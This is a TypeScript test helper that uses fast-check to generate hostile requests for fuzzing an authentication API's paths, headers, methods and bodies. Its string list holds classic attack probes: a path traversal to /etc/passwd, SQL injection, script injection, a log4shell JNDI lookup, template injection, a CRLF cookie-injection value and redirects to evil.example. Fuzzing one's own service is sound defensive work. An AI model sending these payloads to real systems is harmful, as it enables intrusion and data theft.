import fc from 'fast-check'

// Building blocks of hostile input: strings people have broken parsers with, and generators
// that mix them with whatever fast-check invents.

export const NASTY_STRINGS = [
  '',
  ' ',
  '\u0000',
  '\t\r\n',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'null',
  'undefined',
  'NaN',
  '-1',
  '1e309',
  '0x10',
  'true',
  '[]',
  '{}',
  '../../../../etc/passwd',
  '..%2f..%2f',
  '%00',
  '%',
  '%zz',
  '%E0%A4%A',
  "' OR '1'='1",
  '<script>alert(1)</script>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4shell probe, meant literally
  '${jndi:ldap://x/a}',
  '{{7*7}}',
  '\uFEFF',
  '\uD800',
  '\u202Eevil',
  'ＳＴＡＴＥ',
  'ſtate',
  'İ',
  '\r\nSet-Cookie: __Host-wl-session=x',
  'javascript:alert(1)',
  '//evil.example',
  'https://evil.example/',
  's'.repeat(42),
  's'.repeat(43),
  's'.repeat(128),
  's'.repeat(129),
  'c'.repeat(256),
  'c'.repeat(257),
  'v1.',
  'v1.AAAA',
  'v1.AAAA.AAAA',
  'v2.AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA',
]

export const hostileString: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...NASTY_STRINGS),
  fc.string(),
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.stringMatching(/^[A-Za-z0-9_-]{40,50}$/),
  fc.nat({ max: 6000 }).map((length) => 'x'.repeat(length)),
)

/** Any text as a legal header value: what a byte string cannot hold is percent-escaped. */
export function headerSafe(text: string): string {
  return [...text]
    .map((char) =>
      /^[\t\x20-\x7e\x80-\xff]$/.test(char) ? char : `%${(char.codePointAt(0) ?? 0).toString(16)}`,
    )
    .join('')
    .trim()
}

export const hostileHeaderValue = hostileString.map(headerSafe)

/** A JSON body, or something that only looks like one, or not at all. */
export const hostileBody: fc.Arbitrary<string | Uint8Array | undefined> = fc.oneof(
  fc.constant(undefined),
  fc
    .record(
      {
        state: fc.oneof(hostileString, fc.jsonValue()),
        code: fc.oneof(hostileString, fc.jsonValue()),
      },
      { requiredKeys: [] },
    )
    .map((body) => JSON.stringify(body)),
  fc.dictionary(hostileString, fc.jsonValue(), { maxKeys: 5 }).map((body) => JSON.stringify(body)),
  fc.jsonValue().map((value) => JSON.stringify(value) ?? 'null'),
  hostileString,
  fc.uint8Array({ maxLength: 64 }),
  fc.nat({ max: 3000 }).map((depth) => `${'['.repeat(depth)}${']'.repeat(depth)}`),
  fc.nat({ max: 1500 }).map((depth) => `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`),
)

export const hostileMethod = fc.oneof(
  fc.constantFrom('GET', 'HEAD', 'POST', 'PUT', 'PATCH', 'DELETE', 'OPTIONS', 'post'),
  fc
    .stringMatching(/^[A-Z]{1,12}$/)
    .filter((method) => !['CONNECT', 'TRACE', 'TRACK'].includes(method)),
)

export const KNOWN_PATHS = [
  '/api/auth/login',
  '/api/auth/token',
  '/api/auth/refresh',
  '/api/auth/logout',
  '/api/healthz',
  '/api/config',
  '/api/withings/measure',
  '/api/withings/v2/sleep',
]

const segment = fc.oneof(
  fc.constantFrom(
    'api',
    'auth',
    'token',
    'refresh',
    'withings',
    '..',
    '.',
    '%2e%2e',
    '%2f',
    '%00',
    '%',
    '%zz',
    'TOKEN',
    'token;x',
    'token%20',
    '',
    '\u00e9',
    'a'.repeat(3000),
  ),
  fc.webSegment(),
)

export const hostilePath: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...KNOWN_PATHS),
  fc.array(segment, { minLength: 1, maxLength: 6 }).map((parts) => `/${parts.join('/')}`),
  fc.tuple(fc.constantFrom(...KNOWN_PATHS), segment).map(([path, extra]) => `${path}/${extra}`),
  fc
    .tuple(fc.constantFrom(...KNOWN_PATHS), fc.webQueryParameters())
    .map(([path, query]) => `${path}?${query}`),
)
